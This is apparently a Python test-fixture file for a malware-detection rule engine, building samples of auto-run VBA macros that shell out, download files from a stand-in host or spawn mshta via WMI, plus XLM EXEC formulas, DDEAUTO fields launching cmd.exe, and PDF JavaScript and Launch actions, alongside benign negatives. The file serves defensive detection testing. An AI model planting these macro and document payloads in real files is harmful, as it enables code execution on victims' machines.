    body = b'Attribute VB_Name = "ThisWorkbook"\r\nPrivate Sub Workbook_Open()\r\n  Beep\r\nEnd Sub\r\n'
    names = ["Root Entry", "Workbook", "_VBA_PROJECT_CUR", "VBA", "_VBA_PROJECT", "dir", "ThisWorkbook"]
    return _ole(names, body)


def legacy_doc_about_macros() -> bytes:
    """A Word document whose TEXT explains AutoOpen to the campers, with no VBA project at all."""
    text = "Lesson 4: never enable macros; an AutoOpen or Document_Open macro runs on opening.".encode(
        "utf-16-le"
    )
    return _ole(["Root Entry", "WordDocument", "1Table", "SummaryInformation"], text)


def docm_member(macro: str) -> bytes:
    """The vbaProject.bin member of a .docm, as the engine hands it to the rules."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/vbaProject.bin", vba_project_bin(macro))
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        return archive.read("word/vbaProject.bin")


def vba_source(procedure: str, body: str) -> bytes:
    """A VBA module's source as oletools extracts and decompresses it from a project."""
    return (
        f'Attribute VB_Name = "Module1"\r\nOption Explicit\r\n\r\nSub {procedure}()\r\n{body}End Sub\r\n'
    ).encode()


VBA_AUTORUN_SOURCES = {
    "vba-document-open-shell": vba_source("Document_Open", '  Shell "cmd /c calc.exe", vbHide\r\n'),
    "vba-autoopen-wscript": vba_source(
        "AutoOpen", '  CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c 1"\r\n'
    ),
    "vba-workbook-open-download": vba_source(
        "Workbook_Open",
        '  URLDownloadToFileA 0, "https://x.invalid/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\r\n',
    ),
    "vba-autoclose-stream": vba_source(
        "Auto_Close",
        '  Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
        '  h.Open "GET", "https://x.invalid/p", False\r\n  h.Send\r\n'
        '  Set s = CreateObject("ADODB.Stream")\r\n  s.Open\r\n  s.Write h.responseBody\r\n'
        '  s.SaveToFile "p.exe", 2\r\n',
    ),
    "vba-document-close-wmi": vba_source(
        "Document_Close",
        '  GetObject("winmgmts:").Get("Win32_Process").Create "mshta x.invalid/h", 0, 0, 0\r\n',
    ),
    "vba-workbook-activate-file": vba_source(
        "Workbook_Activate",
        '  Open Environ("APPDATA") & "\\s.vbs" For Output As #1\r\n  Print #1, "x"\r\n  Close #1\r\n',
    ),
}


def macro_analysis_notes() -> bytes:
    """A malware-analysis README quoting an auto-run macro (as olevba's and pcodedmp's docs do)."""
    return (
        b"# Reading macros\n\nolevba shows suspicious keywords. Example output:\n\n```\n"
        b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\n  Shell "cmd /c calc"\nEnd Sub\n```\n'
        b"| AutoExec | AutoOpen | Runs when the Word document is opened |\n"
    )


def vba_autorun_formatting() -> bytes:
    """Runs on opening, but only formats the document: no write, download or execute."""
    return vba_source(
        "Document_Open", '  ActiveDocument.Range.Font.Name = "Arial"\r\n  Selection.HomeKey\r\n'
    )


def vba_button_macro_with_shell() -> bytes:
    """Starts a program, but only when the user presses the button: not auto-run."""
    return vba_source("OpenCalculator_Click", '  Shell "calc.exe", vbNormalFocus\r\n')


def xlsm_workbook_auto_open() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Macro1" sheetId="1" r:id="rId1"/>'
        b'</sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
        b"</definedNames></workbook>\n"
    )


def xlm_macrosheet_exec() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet xmlns:xm="http://schemas.'
        b'microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
        b'</row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>\n'
    )


def docx_ddeauto_field() -> bytes:
    return (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
        b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>\n'
    )


def rtf_dde_field() -> bytes:
    return (
        b"{\\rtf1\\ansi {\\field{\\*\\fldinst {\\rtlch DDEAUTO "
        b'c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"}}}}\n'
    )


def workbook_with_print_area() -> bytes:
    """Ordinary defined names (a print area) and an ordinary field (a page number)."""
    return (
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
        b'<definedName name="_xlnm.Print_Area" localSheetId="0">Sheet1!$A$1:$F$40</definedName>'
        b"</definedNames></workbook>\n<w:instrText> PAGE </w:instrText> The DDE lesson: DDEAUTO fields.\n"
    )


def pranks_docm_macro_source() -> bytes:
    """The prank .docm's macro as the engine hands it to the rules: decompressed from its VBA project."""
    from oletools import olevba

    parser = olevba.VBA_Parser("timetable.docm", data=pranks.macro_docm())
    return "".join(code for *_, code in parser.extract_macros()).encode()


# --- PDF ------------------------------------------------------------------------------------------------


def _pdf(catalog_extra: bytes, *extra_objects: bytes) -> bytes:
    content = b"BT /F1 18 Tf 72 720 Td (Camp timetable) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += b"trailer\n<< /Size " + str(len(objects) + 1).encode() + b" /Root 1 0 R >>\n"
    return bytes(out + b"startxref\n" + str(xref).encode() + b"\n%%EOF\n")


def pdf_open_action_javascript() -> bytes:
    return _pdf(b"/OpenAction 5 0 R", b"<< /Type /Action /S /JavaScript /JS (app.alert('Pranked!');) >>")


def pdf_escaped_open_action_javascript() -> bytes:
    return _pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")


def pdf_named_javascript() -> bytes:
    return _pdf(
        b"/Names << /JavaScript 5 0 R >>",
        b"<< /Names [(init) 6 0 R] >>",
        b"<< /S /JavaScript /JS 7 0 R >>",
        b"<< /Length 10 >>\nstream\nvar x = 1;\nendstream",
    )


def pdf_launch() -> bytes:
    return _pdf(b"/OpenAction 5 0 R", b"<< /Type /Action /S /Launch /F (cmd.exe) /NewWindow true >>")


def pdf_open_action_page() -> bytes:
    """The ordinary open action: show page 1, fit to window. Plus a web link annotation."""
    return _pdf(
        b"/OpenAction [3 0 R /Fit] /PageMode /UseOutlines",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
        b"/A << /S /URI /URI (https://camp.example.org/timetable) >> >>",
    )


def pdf_linking_to_javascript_docs() -> bytes:
    """As LibreOffice exports library docs: links to MDN's /Web/JavaScript/ pages (and a /Launch/ one),
    opening at page 1."""
    return _pdf(
        b"/OpenAction [3 0 R /XYZ null null 0]",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /Type /Action /S /URI "
        b"/URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Operators) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /Type /Action /S /URI "
        b"/URI (https://camp.example.org/Launch/notes) >> >>",
    )


def wiki_building_a_bookmarklet() -> bytes:
    """A TiddlyWiki (Debian ships one as LibreOffice's access2base.html): it builds a javascript: link whose
    code is text in a string, URL-encoded, not code it runs."""
    return (
        b"<html><script>function link(code){\n"
        b"var URIcode='javascript:void(eval(decodeURIComponent(%22(function(){try{';\n"
        b"URIcode+=encodeURIComponent(encodeURIComponent(code));URIcode+='}catch(e){alert(e)}})()%22)))';\n"
        b"return URIcode;}</script></html>\n"
    )


def text_about_pdf_actions() -> bytes:
    return b"Security lesson: a PDF with /OpenAction and /JavaScript or a /Launch action is dangerous.\n"


# --- archives hidden in images ----------------------------------------------------------------------------

PHOTO = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(256)) * 4
    + b"\xff\xd9"
)
# RAR 5's signature and main archive header (CRC, size, type 1, no flags), as WinRAR starts an archive
RAR5_START = b"Rar!\x1a\x07\x01\x00" + bytes.fromhex("33 92 b5 e5 0a 01 05 06 00 05 01 01 80 80 00")


def seven_zip_bytes(members: dict[str, bytes]) -> bytes:
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return buffer.getvalue()


# --- EICAR ------------------------------------------------------------------------------------------------


def eicar_with_trailing_whitespace() -> bytes:
    return pranks.eicar() + b"\r\n   \t\n"


def eicar_quoted_in_text() -> bytes:
    """Documentation that quotes the test string is not the test file (it must start the file)."""
    return b"The EICAR test string is: " + pranks.eicar() + b"\n"


def eicar_padded_too_long() -> bytes:
    return pranks.eicar() + b" " * 100


SMUGGLED = "HTML_Smuggling_Embedded_Blob_Download"

CASES: tuple[RuleCase, ...] = (
    # EICAR
    _case("eicar", "eicar.com", pranks.eicar, "EICAR_Test_File"),
    _case("eicar-whitespace", "docs/eicar.txt", eicar_with_trailing_whitespace, "EICAR_Test_File"),
    _case("eicar-in-zip-member", "homework.zip!docs/inner.zip!eicar.com", pranks.eicar, "EICAR_Test_File"),
    _case("neg-eicar-quoted", "docs/antivirus.txt", eicar_quoted_in_text),
    _case("neg-eicar-too-long", "eicar-padded.txt", eicar_padded_too_long),
    # injected scripts
    _case("pranks-injected-js", "site/js/helpers.js", pranks.injected_js,
          "WebInject_Obfuscated_Eval_Loader", "WebInject_Remote_Script_Writer"),
    _case("eval-atob", "site/js/jquery.min.js", obfuscated_eval_atob, "WebInject_Obfuscated_Eval_Loader"),
    _case("function-charcode", "site/js/overlayBanner.js", obfuscated_function_charcode,
          "WebInject_Obfuscated_Eval_Loader"),
    _case("settimeout-unescape", "site/js/menu.js", obfuscated_settimeout_unescape,
          "WebInject_Obfuscated_Eval_Loader"),
    _case("eval-hex-blob", "site/js/app.js", executed_hex_blob, "WebInject_Executed_Encoded_Blob"),
    *(_case(id_, "site/js/jquery.min.js", partial(injected, code), "WebInject_Hidden_Code_Name")
      for id_, code in HIDDEN_NAME_CALLS.items()),
    *(_case(id_, "site/js/jquery.min.js", partial(injected, code), "WebInject_Obfuscated_Eval_Loader")
      for id_, code in PLAIN_NAME_CALLS.items()),
    _case("neg-escapes-and-joined-strings", "site/js/app.js", partial(injected, HIDDEN_NAME_LOOK_ALIKES)),
    _case("function-atob-literal", "site/js/app.js", executed_base64_literal,
          "WebInject_Executed_Encoded_Blob", "WebInject_Obfuscated_Eval_Loader"),
    _case("hidden-iframe-html", "site/index.html", hidden_iframe_html, "WebInject_Hidden_Iframe"),
    _case("hidden-iframe-js", "site/js/banner.js", hidden_iframe_js, "WebInject_Hidden_Iframe"),
    _case("gtm-plus-hidden-iframe", "site/news.html", tag_manager_page_with_hidden_iframe,
          "WebInject_Hidden_Iframe"),
    _case("document-write-script", "site/js/footer.js", document_write_remote_script,
          "WebInject_Remote_Script_Writer"),
    _case("create-element-script", "site/js/jquery.js", create_element_remote_script,
          "WebInject_Remote_Script_Writer"),
    _case("set-attribute-script", "site/js/loader.js", create_element_set_attribute_script,
          "WebInject_Remote_Script_Writer"),
    _case("neg-set-attribute-iframe", "site/js/video.js", set_attribute_far_from_script),
    _case("card-skimmer-beacon", "shop/js/checkout.js", card_skimmer, "WebInject_Card_Skimmer"),
    _case("card-skimmer-image", "shop/js/form.js", card_skimmer_image_beacon, "WebInject_Card_Skimmer"),
    _case("card-skimmer-fetch", "shop/js/mage.js", card_skimmer_fetch_form_data, "WebInject_Card_Skimmer"),
    _case("card-skimmer-xhr", "shop/js/cart.js", card_skimmer_xhr, "WebInject_Card_Skimmer"),
    _case("card-skimmer-websocket", "shop/js/live.js", card_skimmer_websocket, "WebInject_Card_Skimmer"),
    _case("card-skimmer-script-tag", "shop/js/t.js", card_skimmer_script_tag,
          "WebInject_Card_Skimmer", "WebInject_Remote_Script_Writer"),
    _case("card-skimmer-hidden-url", "shop/js/jquery.min.js", card_skimmer_hidden_url,
          "WebInject_Card_Skimmer"),
    _case("card-skimmer-ajax-variable", "shop/js/osc.js", card_skimmer_ajax_variable_url,
          "WebInject_Card_Skimmer"),
    _case("neg-analytics-beacon", "site/js/stats.js", analytics_beacon_script),
    _case("neg-card-formatter", "shop/js/cardfmt.js", card_format_library),
    _case("neg-checkout-same-origin", "shop/js/pay.js", checkout_same_origin_fetch),
    _case("neg-package-index", "share/package-lists/npm.tsv", package_index_listing),
    _case("neg-minified-library", "site/js/camplib.min.js", lambda: MINIFIED_LIBRARY),
    _case("neg-pranks-clean-js", "site/js/app.js", pranks.clean_js),
    _case("neg-tag-manager-page", "site/index.html", tag_manager_page),
    _case("neg-analytics-snippet", "site/index.html", analytics_snippet_page),
    _case("neg-ui-bundle-templates", "site/js/swagger-ui-bundle.min.js", ui_bundle_with_templates),
    _case("neg-library-html-dictionary", "lib/_brotli.so", library_with_html_dictionary),
    _case("neg-checkout-form", "shop/js/checkout.js", checkout_form_script),
    # miners and smuggling
    _case("coinhive", "site/games.html", coinhive_page, "Cryptominer_Browser"),
    _case("generic-miner", "site/js/worker-start.js", generic_miner_script, "Cryptominer_Browser"),
    _case("neg-wasm-filters", "site/js/filters.js", wasm_image_filter_script),
    _case("smuggling-zip", "invoice.html", html_smuggling_zip, SMUGGLED),
    _case("smuggling-exe", "invoice.htm", html_smuggling_executable, SMUGGLED),
    _case("smuggling-ms-save-iso", "scan.html", smuggling_ms_save_iso, SMUGGLED),
    _case("smuggling-hex-exe", "update.html", smuggling_hex_executable, SMUGGLED),
    _case("smuggling-reversed-chunks", "fax.html", smuggling_reversed_chunks,
          SMUGGLED),
    _case("smuggling-chunked-hta", "doc.html", smuggling_chunked_hta, SMUGGLED),
    _case("smuggling-xor", "setup.html", smuggling_xor_payload, SMUGGLED),
    _case("smuggling-data-uri-link", "documents.html", smuggling_data_uri_link,
          "HTML_Smuggling_Data_URI_Download"),
    _case("smuggling-data-uri-script", "invoice.html", smuggling_data_uri_script,
          "HTML_Smuggling_Data_URI_Download"),
    _case("neg-csv-export", "site/timetable.html", csv_export_page),
    _case("neg-zip-made-in-browser", "site/album.html", zip_made_in_the_browser_page),
    _case("neg-pdf-from-server", "site/report.html", pdf_download_from_server_page),
    _case("neg-image-data-uri-download", "site/badge.html", image_data_uri_download_page),
    # web shells
    _case("php-system-get", "uploads/avatar.php", php_system_get, "Webshell_PHP_Request_Exec"),
    _case("php-eval-base64-post", "uploads/x.php", php_eval_base64_post,
          "Webshell_PHP_Request_Exec", "Webshell_PHP_Encoded_Payload"),
    _case("php-encoded-payload", "wp-content/cache.php", php_encoded_payload, "Webshell_PHP_Encoded_Payload"),
    _case("php-backtick", "uploads/c.php", php_backtick, "Webshell_PHP_Request_Exec"),
    _case("php-dynamic-call", "uploads/f.php", php_dynamic_call, "Webshell_PHP_Request_Exec"),
    _case("php-concat-variable-function", "uploads/v.php", php_concatenated_variable_function,
          "Webshell_PHP_Request_Exec"),
    _case("php-assert-variable", "uploads/a.php", php_assert_variable, "Webshell_PHP_Request_Exec"),
    _case("php-preg-replace-e", "uploads/p.php", php_preg_replace_e, "Webshell_PHP_Request_Exec"),
    _case("php-create-function", "uploads/g.php", php_create_function, "Webshell_PHP_Request_Exec"),
    _case("php-backtick-variable", "uploads/b.php", php_backtick_variable, "Webshell_PHP_Request_Exec"),
    _case("php-rot13-chain", "wp-content/rot.php", php_rot13_chain, "Webshell_PHP_Encoded_Payload"),
    _case("php-chr-function", "wp-content/chr.php", php_chr_variable_function,
          "Webshell_PHP_Encoded_Payload"),
    _case("php-callback-assert", "uploads/m.php", php_callback_assert, "Webshell_PHP_Request_Exec"),
    _case("php-globals-include", "uploads/i.php", php_globals_include, "Webshell_PHP_Request_Exec"),
    _case("php-reversed-name", "uploads/r.php", php_reversed_name, "Webshell_PHP_Encoded_Payload"),
    _case("neg-php-page", "site/index.php", php_ordinary_page),
    _case("neg-php-framework", "site/app.php", php_framework_page),
    _case("jsp-exec-param", "uploads/cmd.jsp", jsp_exec_param, "Webshell_JSP_Command_Exec"),
    _case("jsp-process-builder", "uploads/pb.jsp", jsp_process_builder, "Webshell_JSP_Command_Exec"),
    _case("jsp-class-loader", "uploads/cl.jsp", jsp_class_loader, "Webshell_JSP_Command_Exec"),
    _case("jsp-reflection", "uploads/r.jsp", jsp_reflection, "Webshell_JSP_Command_Exec"),
    _case("jspx-script-engine", "uploads/s.jspx", jspx_script_engine, "Webshell_JSP_Command_Exec"),
    _case("neg-jsp-page", "site/hello.jsp", jsp_ordinary_page),
    _case("aspx-china-chopper", "uploads/a.aspx", aspx_china_chopper, "Webshell_ASPX_Command_Exec"),
    _case("aspx-process-start", "uploads/p.aspx", aspx_process_start, "Webshell_ASPX_Command_Exec"),
    _case("asp-execute-request", "uploads/e.asp", asp_execute_request, "Webshell_ASPX_Command_Exec"),
    _case("asp-wscript-shell", "uploads/w.asp", asp_wscript_shell, "Webshell_ASPX_Command_Exec"),
    _case("aspx-assembly-load", "uploads/l.aspx", aspx_assembly_load, "Webshell_ASPX_Command_Exec"),
    _case("aspx-eval-unsafe-concat", "uploads/u.aspx", aspx_eval_unsafe_concat, "Webshell_ASPX_Command_Exec"),
    _case("neg-aspx-page", "site/camper.aspx", aspx_ordinary_page),
    # executables in disguise
    _case("pe-as-jpg", "photos/badge.jpg", pranks.pe_as_jpg, "Disguised_Executable_PE"),
    _case("pe-as-jpg-trailing-dot", "photos.zip!badge.JPG.", pranks.pe_as_jpg, "Disguised_Executable_PE"),
    _case("elf-as-png-trailing-spaces", "photos/logo.png  ", pranks.elf_as_jpg, "Disguised_Executable_ELF"),
    _case("neg-pe-named-jpg-dot-exe", "photos/badge.jpg.exe", pranks.pe_as_jpg),
    _case("pe-named-with-right-to-left-override", "photos/badge\u202egpj.exe", pranks.pe_as_jpg,
          "Disguised_Executable_PE"),
    _case("neg-photo-named-in-hebrew", "photos/\u05de\u05d7\u05e0\u05d4\u200f.jpg", pranks.clean_png),
    _case("pe-as-upper-pdf", "docs/REPORT.PDF", pranks.pe_header, "Disguised_Executable_PE"),
    _case("elf-as-jpg", "photos/camp-photo.jpg", pranks.elf_as_jpg, "Disguised_Executable_ELF"),
    _case("elf-as-txt-in-zip", "notes.zip!week1/notes.txt", pranks.elf_header, "Disguised_Executable_ELF"),
    _case("macho-as-css", "site/css/style.css", macho_header, "Disguised_Executable_MachO"),
    _case("fat-macho-as-docx", "docs/plan.docx", fat_macho_header, "Disguised_Executable_MachO"),
    _case("neg-pe-as-exe", "tools/setup.exe", pranks.pe_header),
    _case("neg-elf-no-extension", "bin/tool", pranks.elf_header),
    _case("neg-elf-named-jpg-dir", "photos.jpg/tool", pranks.elf_header),
    _case("neg-java-class-as-jpg", "photos/odd.jpg", java_class_header),
    _case("neg-png", "photos/logo.jpg", pranks.clean_png),
    # archives hidden in images
    _case("7z-behind-jpeg", "photos/lake.jpg", lambda: PHOTO + seven_zip_bytes({"a.txt": b"camp"}),
          "Archive_Hidden_In_Image"),
    _case("rar-behind-png", "photos/logo.png", lambda: pranks.clean_png() + RAR5_START,
          "Archive_Hidden_In_Image"),
    _case("7z-in-gif-comment", "photos/wave.gif",
          lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00!\xfe" + seven_zip_bytes({"a.txt": b"camp"})[:200],
          "Archive_Hidden_In_Image"),
    _case("7z-behind-pdf", "docs/timetable.pdf",
          lambda: pranks.clean_pdf() + seven_zip_bytes({"a.txt": b"camp"}), "Archive_Appended_To_PDF"),
    _case("neg-7z-attached-inside-pdf", "docs/timetable.pdf",
          lambda: pranks.clean_pdf().replace(b"%%EOF", seven_zip_bytes({"a.txt": b"camp"}) + b"\n%%EOF")),
    _case("neg-7z-archive", "photos.7z", lambda: seven_zip_bytes({"lake.jpg": PHOTO})),
    _case("neg-rar-archive", "photos.rar", lambda: RAR5_START),
    _case("neg-jpeg-naming-archives", "photos/lake.jpg",
          lambda: PHOTO + b"7z Rar! archives of these photos"),
    # Office macros
    _case("pranks-docm-macro-source", "timetable.docm!word/vbaProject.bin!<vba>/NewMacros.bas",
          pranks_docm_macro_source, "Office_VBA_AutoExec_Source"),
    _case("docm-vba-project", "plan.docm!word/vbaProject.bin", lambda: docm_member(AUTO_OPEN_MACRO),
          "Office_OOXML_VBA_AutoExec"),
    _case("legacy-doc-autoopen", "old/plan.doc", legacy_doc_with_macro, "Office_OLE_VBA_AutoExec"),
    _case("legacy-xls-workbook-open", "old/budget.xls", legacy_xls_with_macro, "Office_OLE_VBA_AutoExec"),
    _case("neg-vba-without-autoexec", "plan.docm!word/vbaProject.bin", lambda: docm_member(PLAIN_MACRO)),
    _case("neg-doc-about-macros", "lessons/macros.doc", legacy_doc_about_macros),
    _case("neg-docm-package", "timetable.docm", pranks.macro_docm),
    *(
        _case(id_, f"plan.docm!VBA/{id_}", lambda data=data: data, "Office_VBA_AutoExec_Source")
        for id_, data in VBA_AUTORUN_SOURCES.items()
    ),
    _case("xlsm-auto-open-name", "budget.xlsm!xl/workbook.xml", xlsm_workbook_auto_open,
          "Office_XLM_Auto_Open"),
    _case("xlm-macrosheet-exec", "budget.xlsm!xl/macrosheets/sheet1.xml", xlm_macrosheet_exec,
          "Office_XLM_Auto_Open"),
    _case("docx-ddeauto", "letter.docx!word/document.xml", docx_ddeauto_field, "Office_DDE_Field"),
    _case("rtf-dde", "letter.rtf", rtf_dde_field, "Office_DDE_Field"),
    _case("neg-vba-autorun-formatting", "plan.docm!word/vbaProject.bin!VBA/Module1", vba_autorun_formatting),
    _case("neg-vba-button-shell", "plan.docm!word/vbaProject.bin!VBA/Module1", vba_button_macro_with_shell),
    _case("neg-macro-analysis-notes", "docs/olevba.md", macro_analysis_notes),
    _case("neg-print-area-and-page-field", "budget.xlsx!xl/workbook.xml", workbook_with_print_area),
    # PDF
    _case("pdf-openaction-js", "docs/timetable.pdf", pdf_open_action_javascript,
          "PDF_JavaScript", "PDF_OpenAction_Script"),
    _case("pdf-escaped-names", "docs/menu.pdf", pdf_escaped_open_action_javascript,
          "PDF_JavaScript", "PDF_OpenAction_Script"),
    _case("pdf-named-js", "docs/form.pdf", pdf_named_javascript, "PDF_JavaScript"),
    _case("pdf-launch", "docs/invoice.pdf", pdf_launch, "PDF_Launch_Action"),
    _case("neg-pdf-open-page", "docs/guide.pdf", pdf_open_action_page),
    _case("neg-pranks-clean-pdf", "week1/timetable.pdf", pranks.clean_pdf),
    _case("neg-text-about-pdf", "lessons/pdf.txt", text_about_pdf_actions),
    _case("neg-pdf-links-to-js-docs", "docs/underscore.pdf", pdf_linking_to_javascript_docs),
    _case("neg-wiki-bookmarklet", "docs/access2base.html", wiki_building_a_bookmarklet),
)  # fmt: skip


def cases_for(rule: str) -> list[RuleCase]:
    return [case for case in CASES if rule in case.expected]
